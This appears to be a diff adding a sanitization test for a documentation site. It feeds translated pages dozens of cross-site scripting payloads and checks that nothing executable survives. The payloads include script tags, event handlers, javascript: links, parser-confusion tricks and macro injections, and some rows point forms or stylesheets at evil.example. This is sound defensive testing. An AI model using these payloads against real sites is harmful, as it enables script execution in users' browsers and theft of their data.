@@ -1,0 +1,202 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { loadContentStrings } from "~/l10n/content-strings.server";
+import { createDocumentsService } from "~/services/documents/index.server";
+import {
+  compileSite,
+  type CompiledSite,
+  type FixturePage,
+} from "../support/compile-site";
+import { findExecutable } from "../support/find-executable";
+
+/**
+ * A translation is written by strangers: whatever stands in it, nothing of it may run in the
+ * site's origin. Each row is a page of its own, compiled for real and parsed as a browser does.
+ */
+const RUN = "alert(1)";
+const BODIES: Record<string, string> = {
+  script: `<script>${RUN}</script>`,
+  "script in a table": `<table><tr><td><script>${RUN}</script></td></tr></table>`,
+  "script in SVG": `<svg><script>${RUN}</script></svg>`,
+  "script in SVG with a link": `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
+  "script in MathML": `<math><mtext><script>${RUN}</script></mtext></math>`,
+  "event handler": `<img src=x onerror=${RUN}>`,
+  "event handler in capitals": `<IMG SRC=x ONERROR=${RUN}>`,
+  "event handler behind a slash": `<img/src=x/onerror=${RUN}>`,
+  "event handler behind a line break": `<div\nonclick\n=\n${RUN}>x</div>`,
+  "event handler in SVG": `<svg onload=${RUN}><g onclick=${RUN}></g></svg>`,
+  "event handler in MathML": `<math><mi onclick=${RUN}>x</mi></math>`,
+  "event handler of details": `<details open ontoggle=${RUN}><summary>x</summary></details>`,
+  "link that runs": `<a href="javascript:${RUN}">x</a>`,
+  "link in Markdown": `[x](javascript:${RUN}) [y](<java\tscript:${RUN}>) <javascript:${RUN}>`,
+  "link with a tab": `<a href="java&#9;script:${RUN}">x</a>`,
+  "link with a control": `<a href="&#1;javascript:${RUN}">x</a>`,
+  "link with a zero-width space": `<a href="java&#x200b;script:${RUN}">x</a>`,
+  "link with an entity": `<a href="javascript&colon;${RUN}">x</a>`,
+  "link to data": `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  "link of Visual Basic": `<a href="vbscript:${RUN}">x</a>`,
+  "link in SVG": `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  "link in MathML": `<math><mrow href="javascript:${RUN}">x</mrow></math>`,
+  "link of an area": `<map name=m><area href="javascript:${RUN}"></map>`,
+  "link that tells another site": `<a href="/en-US/docs/Web" ping="https://evil.example/">x</a>`,
+  "reference to data in SVG": `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
+  "image in SVG": `<svg><image href="data:image/svg+xml,x" /><feImage href="data:text/html,x"/></svg>`,
+  "animation of a link": `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
+  "animation to a link": `<svg><a id=x><set attributeName="xlink:href" to="javascript:${RUN}"/></a></svg>`,
+  "animation from elsewhere": `<svg><animate href=#x attributeName=href from=x to="javascript:${RUN}"/></svg>`,
+  "SVG foreignObject": `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
+  style: `<style>@import "https://evil.example/";</style>`,
+  "style in SVG": `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  "frame with a document": `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  "frame that runs": `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,x"></iframe>`,
+  "form to elsewhere": `<form action="https://evil.example/"><input name=password></form>`,
+  "form to the site itself": `<form method=post action="/api/v1/settings"><button>x</button></form>`,
+  "button with a target": `<button formaction="javascript:${RUN}" form=f>x</button>`,
+  "input with a target": `<input type=image formaction="/users/signout" src=x>`,
+  refresh: `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  base: `<base href="https://evil.example/">`,
+  link: `<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=x>`,
+  object: `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code=x></applet>`,
+  template: `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  plaintext: `<plaintext><img src=x onerror=${RUN}>`,
+  xmp: `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  noembed: `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
+  "noframes in SVG": `<svg><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes></svg>`,
+  textarea: `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  "textarea in SVG": `<svg><textarea><b title="</textarea><img src=x onerror=${RUN}>"></b></textarea></svg>`,
+  title: `<svg><title><b title="</title><img src=x onerror=${RUN}>"></b></title></svg>`,
+  "frame's fallback": `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
+  select: `<select><template><img src=x onerror=${RUN}></template><script>${RUN}</script></select>`,
+  comment: `<!--><img src=x onerror=${RUN}>--> <!-- --!><img src=x onerror=${RUN}> -->`,
+  "comment in SVG": `<svg><!--<p>--><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></svg>`,
+  "CDATA in SVG": `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg>`,
+  "processing instruction": `<?x ><img src=x onerror=${RUN}>?>`,
+  "annotation in MathML": `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml></math>`,
+  "annotation in SVG type": `<math><annotation-xml><svg><desc><img src=x onerror=${RUN}></desc></svg></annotation-xml></math>`,
+  "glyphs of MathML": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form></mtext></math>`,
+  "table in MathML": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  "paragraph out of SVG": `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
+  "unknown element": `<x><img src=x onerror=${RUN}></x><math><mtext><y><mglyph><style><img src=x onerror=${RUN}>`,
+  "odd names": `<a-b"onclick=${RUN}><p =onclick=${RUN} "onclick=${RUN} 'x'onclick=${RUN}>x</p></a-b>`,
+  "named like a property": `<img name=querySelector src=x><form name=getElementById></form><iframe name=cookie></iframe>`,
+  "placeholder forgery": `\uE000${0}\uE001 <img alt="\uE000" src=x>`,
+  "code with markup": "```html\n</code></pre><script>alert(1)</script>\n```",
+  "code with an info string": '```"><script>alert(1)</script>\nx\n```',
+  "code with a class": '```js example-good"onclick="alert(1)\nx\n```',
+  "alternative text": `![x" onerror="${RUN}](x.png "y' onerror='${RUN}")`,
+  "note label": `> [!NOTE]\n> <img src=x onerror=${RUN}>`,
+  heading: `## <img src=x onerror=${RUN}> {{cssxref("x", "<img src=x onerror=${RUN}>")}}`,
+  "heading with an id": `<h2 id='x"><script>${RUN}</script>'>x</h2>\n\nx`,
+  "compatibility table by hand": `x\n\n<div class="bc-data" data-query='"><script>${RUN}</script>'></div>`,
+  "many tables by hand": `x\n\n<div class="bc-data" data-multiple="true" data-query='<script>${RUN}</script>'></div>`,
+  "specification by hand": `x\n\n<div class="bc-specs" data-spec-urls="javascript:${RUN}//"></div>`,
+  "specification with data": `x\n\n<div class="bc-specs" data-spec-urls="data:text/html;base64;x"></div>`,
+  "quick links": `<section id="Quick_links"><ol><li><a href="javascript:${RUN}" onclick=${RUN}>x</a></li></ol></section>`,
+};
+
+const PAYLOAD = `<img src=x onerror=${RUN}><svg><script>${RUN}</script></svg>`;
+const MACROS = [
+  `cssxref("x", "${PAYLOAD}", "${PAYLOAD}")`,
+  `cssxref("x&quot; onclick=&quot;${RUN}")`,
+  `cssxref('x" onclick="${RUN}')`,
+  `domxref("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}", 1)`,
+  `jsxref("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}", 1)`,
+  `HTMLElement("${PAYLOAD}", "${PAYLOAD}", '" onclick="${RUN}')`,
+  `SVGElement("${PAYLOAD}")`,
+  `MathMLElement("${PAYLOAD}")`,
+  `SVGAttr("${PAYLOAD}")`,
+  `HTTPHeader("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
+  `HTTPStatus('" onclick="${RUN}')`,
+  `CSP("${PAYLOAD}")`,
+  `Glossary("${PAYLOAD}", "${PAYLOAD}")`,
+  `Glossary("javascript:${RUN}")`,
+  `RFC(1, "${PAYLOAD}", '" onclick="${RUN}')`,
+  `EmbedYouTube('" onload="${RUN}', "${PAYLOAD}")`,
+  `EmbedYouTube("javascript:${RUN}", '" onload="${RUN}')`,
+  `EmbedGHLiveSample("javascript:${RUN}", '" onload="${RUN}', '"><script>${RUN}</script>')`,
+  `EmbedGHLiveSample('" onload="${RUN}', 1, 2)`,
+  `WebExtAPIRef("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
+  `Previous("${PAYLOAD}")`,
+  `PreviousNext("${PAYLOAD}", "${PAYLOAD}")`,
+  `NextMenu("${PAYLOAD}", "${PAYLOAD}")`,
+  `ListSubpages("${PAYLOAD}", 1)`,
+  `AvailableInWorkers("${PAYLOAD}")`,
+  `js_property_attributes("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
+  `Compat("${PAYLOAD}")`,
+  `Specifications("${PAYLOAD}")`,
+  `CSSInfo("${PAYLOAD}")`,
+  `InheritanceDiagram("${PAYLOAD}")`,
+  `SeeCompatTable("${PAYLOAD}")`,
+  `Deprecated_Header("${PAYLOAD}")`,
+  `APIRef("${PAYLOAD}")`,
+  `DefaultAPISidebar("${PAYLOAD}")`,
+  `EmbedLiveSample("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
+  `InteractiveExample("${PAYLOAD}", "${PAYLOAD}")`,
+  `${PAYLOAD}("x")`,
+];
+
+const PAGES: Record<string, FixturePage> = {
+  "its title": { title: `<script>${RUN}</script> \`<img src=x onerror=${RUN}>\`` },
+  "its short title": { frontMatter: `short-title: ${JSON.stringify(PAYLOAD)}` },
+  "its page type": { frontMatter: `page-type: ${JSON.stringify(PAYLOAD)}` },
+  "its banners": {
+    frontMatter: `banners:\n  - securecontext_header: [${JSON.stringify(PAYLOAD)}]\n  - ${JSON.stringify(PAYLOAD)}\n  - cssxref: ["x", ${JSON.stringify(PAYLOAD)}]`,
+  },
+  "its features": {
+    frontMatter: `browser-compat: ${JSON.stringify(PAYLOAD)}`,
+    body: "x\n\n{{Compat}}\n\n{{Specifications}}",
+  },
+  "its specifications": {
+    frontMatter: `spec-urls:\n  - "javascript:${RUN}//"\n  - "data:text/html,x"\n  - 'https://x.example/"><script>${RUN}</script>'`,
+    body: "x\n\n{{Specifications}}",
+  },
+  "its sidebar": {
+    frontMatter: `sidebar:\n  - ${JSON.stringify(PAYLOAD)}\n  - apiref: [${JSON.stringify(PAYLOAD)}]`,
+  },
+};
+
+const ROWS: [name: string, page: FixturePage][] = [
+  ...Object.entries(BODIES).map(([name, body]): [string, FixturePage] => [
+    name,
+    { body },
+  ]),
+  ...MACROS.map((call): [string, FixturePage] => [
+    `{{${call.replace(/[<(].*$/s, "")}}} ${MACROS.indexOf(call)}`,
+    {
+      body: `Before.\n\n## {{${call}}}\n\n{{${call}}}\n\n- <b title="{{${call}}}">x</b>\n\n![{{${call}}}](x.png)`,
+    },
+  ]),
+  ...Object.entries(PAGES),
+];
+
+describe("nothing runs on a page that holds", () => {
+  let site: CompiledSite;
+
+  beforeAll(async () => {
+    const pages = ROWS.map(([, page], at) => [`/de/docs/Web/Row${at}`, page] as const);
+    site = await compileSite({
+      pages: { "/en-US/docs/Web": "Root.", ...Object.fromEntries(pages) },
+    });
+  });
+
+  afterAll(() => site.remove());
+
+  test.each(ROWS.map(([name], at) => [name, at] as const))("%s", (_name, at) => {
+    const service = createDocumentsService({
+      store: () => site.store,
+      translate: loadContentStrings(),
+    });
+    const page = service.findDocumentPage(`/de/docs/Web/Row${at}`);
+    expect(page).not.toBeNull();
+    const { document, articleHtml = "", sidebarHtml } = page ?? {};
+    const places = [
+      articleHtml,
+      sidebarHtml ?? "",
+      document?.titleHTML ?? "",
+      ...(document?.toc.map(({ text }) => text) ?? []),
+    ];
+    expect(places.flatMap(findExecutable)).toEqual([]);
+    // Read and written once more, as by a script that copies a part of the page.
+    expect(site.flaws.filter(({ check }) => check === "crash")).toEqual([]);
+  });
+});
